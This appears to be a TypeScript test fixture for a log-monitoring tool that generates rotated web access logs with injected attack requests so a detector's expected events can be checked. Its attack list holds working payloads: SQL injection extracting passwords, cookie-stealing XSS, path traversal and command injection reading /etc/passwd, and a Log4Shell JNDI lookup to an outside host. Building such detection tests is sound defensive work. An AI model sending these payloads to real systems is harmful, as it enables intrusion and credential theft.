import { appendFileSync, renameSync, writeFileSync } from 'node:fs';
import { fileFingerprint, lineId } from '@vigil/shared/lines/ids';
import { moveUpRotated } from './rotated-files.ts';

/** Attacks that score by themselves, one class each; no window has a say in them. */
export const ATTACKS = [
  "/item?id=1'+UNION+SELECT+password,1+FROM+users--+-",
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/download?file=../../../../../../etc/passwd',
  '/ping?host=127.0.0.1%3Bcat+/etc/passwd',
  '/?x=$%7Bjndi:ldap://198.51.100.9/a%7D',
];

/**
 * An access log that is written, rotated and remembered: which line stands where, and so which event each attack must become.
 */
export class AttackLog {
  readonly path: string;
  readonly expected = new Set<string>();
  lines = 0;
  #offset = 0;
  #fingerprint: string | undefined;
  #rotations = 0;

  constructor(path: string) {
    this.path = path;
  }

  /** Appends benign lines with an attack in every fifth place, each from an address of its own. */
  write(count: number): void {
    let text = '';
    for (let index = 0; index < count; index += 1) {
      const attack = this.lines % 5 === 4;
      const line = this.#line(attack);
      this.#fingerprint ??= fileFingerprint(Buffer.from(line));
      if (attack) this.expected.add(lineId(this.path, this.#fingerprint, this.#offset));
      this.#offset += line.length + 1;
      this.lines += 1;
      text += `${line}\n`;
    }
    appendFileSync(this.path, text);
  }

  /** As logrotate does: the old files move up by one, a new one is created. */
  rotate(): void {
    moveUpRotated(this.path, this.#rotations);
    renameSync(this.path, `${this.path}.1`);
    writeFileSync(this.path, '');
    this.#rotations += 1;
    this.#offset = 0;
    this.#fingerprint = undefined;
  }

  #line(attack: boolean): string {
    const n = this.lines;
    const ip = `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;
    const target = attack ? ATTACKS[Math.floor(n / 5) % ATTACKS.length] : `/products/${n}?page=${n % 7}`;
    const second = String(n % 60).padStart(2, '0');
    const minute = String(Math.floor(n / 60) % 60).padStart(2, '0');
    return `${ip} - - [02/Mar/2026:10:${minute}:${second} +0000] "GET ${target} HTTP/1.1" 200 ${1000 + (n % 500)} "-" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/125.0"`;
  }
}
